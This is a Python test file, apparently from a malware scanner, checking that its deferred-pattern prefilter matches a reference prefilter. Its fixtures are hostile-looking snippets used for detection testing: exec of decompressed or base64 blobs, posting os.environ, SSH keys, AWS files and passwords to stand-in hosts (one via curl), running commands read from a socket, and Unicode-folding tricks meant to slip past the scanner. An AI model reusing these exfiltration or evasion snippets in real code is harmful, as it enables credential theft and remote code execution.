"""The prefilter's deferred sides: a third RE2 set, asked only where a conjunction may hold.

The deferred sides (``_prefilter_patterns.DEFERRED``) are looked for only in a file
whose two sets found every other side of one of their conjunctions, so every answer must be
the answer of sets that hold it: here a prefilter built without deferring anything is
the reference, asked about every rule's worked example, the tuned malware samples
(the holdout stays unread), a slice of the standard library and each deferred side
beside its other sides and without them (benchmarks/prefilter_answers.py asks the same
of both speed corpora).
"""

from __future__ import annotations

import sysconfig
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from caplet._scan import _prefilter
from caplet._scan._examples import EXAMPLES, Variant
from caplet._scan._glued_strings import with_glued_strings
from caplet._scan._logical_lines import with_logical_lines
from caplet._scan._prefilter import BLIND, Need, Prefilter

TUNE = Path(__file__).resolve().parents[2] / "benchmarks" / "malware" / "tune"
STDLIB = Path(sysconfig.get_paths()["stdlib"])
STDLIB_SLICE = ("subprocess.py", "socket.py", "platform.py", "getpass.py", "smtplib.py")

#: Each deferred side beside the other sides of a conjunction of its, and alone.
_BESIDE = (
    # the payload beside exec called, and beside exec passed as a value
    "import zlib\nexec(zlib.decompress(BLOB))\n",
    "import base64\nrun = eval\nrun(base64.b64decode(B))\n",
    "import zlib\ndata = zlib.decompress(BLOB)\n",
    # the whole environment sent
    "import os, requests\nrequests.post(U, json=dict(os.environ))\n",
    "import os\nsettings = dict(os.environ)\n",
    # host reconnaissance and credentials beside the network, or a network program run
    "import os, socket\nsocket.create_connection((H, 80)).send(os.getlogin().encode())\n",
    "import os, subprocess\nsubprocess.run(['ping', '-c1', os.getlogin() + '.x.example'])\n",
    "import getpass\nprint(getpass.getuser())\n",
    "import os, socket\nfor k in os.environ:\n    socket.socket().send(k.encode())\n",
    "import pathlib, urllib.request\n"
    "urllib.request.urlopen(U, pathlib.Path('~/.aws').read_bytes())\n",
    "key = open('/home/u/.ssh/id_rsa').read()\n",
    # a credential parameter, a clear-text address, an egress
    "import requests\ndef login(user, password):\n"
    "    requests.post('http://203.0.113.9/p', data=password)\n",
    "def login(user, password):\n    return 'http://example.org'\n",
    # a literal with junk characters removed, beside a file opened
    "p = 'c#u#r#l'.replace('#', '')\nopen(p, 'w').write(X)\n",
    "p = 'c#u#r#l'.replace('#', '')\n",
)


@pytest.fixture(scope="module")
def reference() -> Prefilter:
    """A prefilter whose sets hold every pattern (nothing deferred)."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(_prefilter, "DEFERRED", frozenset())
        built = Prefilter()
    assert not built._deferred
    return built


@pytest.fixture(scope="module")
def deferring() -> Prefilter:
    built = Prefilter()
    assert built._deferred
    return built


def _padded(text: str) -> str:
    """``text`` in a file large enough to be visited only around its hits."""
    return text + "".join(f"def f{i}(a, b):\n    return a + b\n" for i in range(600))


def _texts() -> Iterator[Any]:
    for number, item in enumerate(EXAMPLES):
        for variant in Variant:
            source = item.source(variant)
            if source is not None:
                yield pytest.param(source, id=f"{item.rule_id}-{number}-{variant.value}")
    for path in sorted(TUNE.rglob("*.py")):
        yield pytest.param(path.read_text("utf-8", "replace"), id=str(path.relative_to(TUNE)))
    for name in STDLIB_SLICE:
        yield pytest.param((STDLIB / name).read_text("utf-8"), id=f"stdlib-{name}")
    for number, text in enumerate(_BESIDE):
        yield pytest.param(text, id=f"beside-{number}")
        yield pytest.param(_padded(text), id=f"beside-{number}-large")


@pytest.mark.parametrize("text", list(_texts()))
def test_a_deferred_side_gives_the_answers_of_sets_that_hold_it(
    text: str, reference: Prefilter, deferring: Prefilter
) -> None:
    assert deferring.check_text(text) == reference.check_text(text)
    encoded = text.encode("utf-8", "surrogatepass")
    ours, unasked = deferring._match(encoded)
    theirs = reference._set.Match(encoded) or []
    # where a conjunction holds the answers agree; elsewhere only unsearched sides differ
    assert set(theirs) - set(ours) <= {i for p in unasked for i in deferring._deferred[p]}
    assert {k for k, t in enumerate(deferring._pairs) if set(ours).issuperset(t)} == {
        k for k, t in enumerate(reference._pairs) if set(theirs).issuperset(t)
    }
    # and every line a large file's focus reads is located as before
    assert deferring.hit_lines(text, 10_000, ours, encoded, unasked) == reference.hit_lines(
        text, 10_000, theirs, encoded
    )


def test_the_examples_hold_each_deferred_side_beside_its_conjunction(
    reference: Prefilter, deferring: Prefilter
) -> None:
    # the comparison above proves something only if the deferred sides are in it
    searched: set[str] = set()
    for text in _BESIDE:
        found, _ = deferring._match(text.encode())
        searched |= {p for p, owners in deferring._deferred.items() if owners[0] in found}
    assert searched == set(deferring._deferred)


def test_a_deferred_side_is_in_no_set_and_never_a_solo_pattern(deferring: Prefilter) -> None:
    in_sets = {i for owners, _ in deferring._set.parts for o in owners for i in o}
    for pattern, owners in deferring._deferred.items():
        assert not in_sets.intersection(owners), pattern
        assert all(deferring._solo <= i < deferring._auditor for i in owners)


def test_the_deferred_sides_are_looked_for_only_where_a_conjunction_may_hold(
    deferring: Prefilter, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[bytes] = []
    late = deferring._late

    class Counted:
        def Match(self, data: bytes) -> list[int]:
            asked.append(data)
            return list(late.Match(data))

    monkeypatch.setattr(deferring, "_late", Counted())
    # a payload word, the environment, reconnaissance and a process call as code, but no
    # exec, no network, no decoder, no address, no junk removed: no conjunction of a
    # deferred side can hold, and the third set is not asked
    quiet = "import os\nbot = 'telegram'\nh = os.getlogin()\nk = dict(os.environ)\nos.system(h)\n"
    assert deferring.check(quiet) is Need.NOTHING
    assert asked == []
    assert deferring.check("import zlib\nexec(zlib.decompress(B))\n") is not Need.NOTHING
    assert len(asked) == 1  # exec called: the payload was looked for


def test_the_probe_sees_the_deferred_set_blind(
    deferring: Prefilter, monkeypatch: pytest.MonkeyPatch
) -> None:
    probe = 'exec(b64decode(x)); post("https://discord.com/api/webhooks/1/a")'
    assert deferring.engine_answers(probe)
    blinded = [(owners, _Failed()) for owners, _ in deferring._late.parts]
    monkeypatch.setattr(deferring._late, "parts", blinded)
    assert not deferring.engine_answers(probe)
    # and a file whose deferred sides it was asked about is the whole file, not a clean one
    assert deferring._match(b"import zlib\nexec(zlib.decompress(B))\n") == ([BLIND], frozenset())
    assert deferring.check("x = 1\nexec(zlib.decompress(B))\n" + "y = 2\n" * 9000) is Need.FULL


class _Failed:
    """An RE2 set whose DFA failed (see test_prefilter's _FailedSet)."""

    def Match(self, data: bytes) -> list[int]:
        return []


def test_a_blind_set_is_still_the_whole_file(
    deferring: Prefilter, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a deferred search must not turn the blind answer into a clean one
    class Failed:
        def Match(self, data: bytes) -> list[int]:
            return [BLIND]

    monkeypatch.setattr(deferring, "_set", Failed())
    assert deferring._match(b"exec(zlib.decompress(B))") == ([BLIND], frozenset())
    assert deferring.check_text("x = 1\n") == (Need.FULL, True)


#: attack7: texts where a deferred side could slip past the gate, each held to the
#: reference through every way package mode asks (the widening of logical lines and
#: glued literals, ``located``, the NFKC-folded text's own match, lone surrogates).
_ATTACKS = (
    # three sides, two deferred: a credential parameter, an address, exec as a name
    "def login(user, password):\n    u = 'http://203.0.113.9/p'\n    exec(password)\n",
    # credential files and a process sink (both deferred) beside a network program
    "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "os.system('curl -d ' + key + ' https://x.example')\n",
    # the deferred side only in the NFKC-folded text, then the gate only there
    "exec(\uff4264decode(B))\n",
    "\uff45xec(b64decode(B))\n",
    # the deferred side's line joined by a backslash continuation
    "import requests\ndef login(user,\\\n password):\n"
    "    requests.post('http://203.0.113.9/p', data=password)\n",
    # an address glued from literals beside a credential parameter and an egress
    "import requests\ndef login(user, password):\n"
    "    requests.post('http:' '//203.0.113.9/p', data=password)\n",
    # a lone surrogate beside a conjunction of a deferred side
    "import zlib\nexec(zlib.decompress(B))  # \ud800\n",
    # recall6's network input beside a process sink, blindcn's junk beside a process
    "import asyncio, os\nasync def c():\n    r, w = await asyncio.open_connection(H, 1)\n"
    "    os.system((await r.readline()).decode())\n",
    "import subprocess\np = 'c#u#r#l'.replace('#', '')\nsubprocess.run([p, U])\n",
)


def _every_answer(check: Prefilter, text: str) -> tuple[object, ...]:
    need, auditor = check.check_text(text)
    widened = with_glued_strings(text, with_logical_lines(text, need, check.check), check.check)
    return need, auditor, widened, check.located(text, 400), check.located(text, 400, aliases=False)


@pytest.mark.parametrize("text", [t for a in _ATTACKS for t in (a, _padded(a))])
def test_an_attack_on_the_gate_gets_the_reference_answers(
    text: str, reference: Prefilter, deferring: Prefilter
) -> None:
    assert _every_answer(deferring, text) == _every_answer(reference, text)
    assert _every_answer(reference, text)[2] is not Need.NOTHING  # each one the sets must see


def test_located_after_a_check_is_located_without_one(deferring: Prefilter) -> None:
    # located reads what the check of this very text found (its _Seen record) instead of
    # matching it again: the same lines as a text the prefilter never checked, whether
    # the deferred sides were looked for or not
    quiet = "import os\nbot = 'telegram'\nh = os.getlogin()\nk = dict(os.environ)\nos.system(h)\n"
    late_asked = set()
    for text in (quiet, *_BESIDE, *_ATTACKS):
        for each in (text, _padded(text)):
            deferring.check(each)
            seen = deferring._seen(each)
            assert seen is not None
            late_asked.add(seen.late_asked)
            unchecked = each[:1] + each[1:]  # equal, but not the text the check saw
            assert unchecked is not each
            assert deferring._seen(unchecked) is None
            for aliases in (False, True):
                assert deferring.located(each, 400, aliases=aliases) == deferring.located(
                    unchecked, 400, aliases=aliases
                )
    assert late_asked == {False, True}


@pytest.mark.parametrize(
    "text",
    [
        "import requests\nrequests.post(u, json=dict(os.\uff45nviron))  # caf\u00e9\n",
        "import requests  # na\u00efve\nrequests.post(u, json=dict(os.environ))\n",
        "import socket\nfor k in os.environ: print(k, '\u00e9')\n",
        "x = '\u0301' * 40 + 'e\u0301'\nimport requests; requests.post(u, data=os.environ)\n",
        "ascii only: import requests; requests.post(u, data=os.environ)\n",
    ],
)
def test_the_deferred_sides_read_through_a_checks_folding_are_a_fresh_reads(text: str) -> None:
    # completes reads the deferred set through the NFKC folding its check remembered
    # (speed33): the same indices as folding and matching the text again
    check = _prefilter.prefilter()
    check.check(text)
    check._recalled(text)
    assert check._late_found(text) == check._found(text, check._late)
    assert check._late_found(text)  # each text holds a deferred side
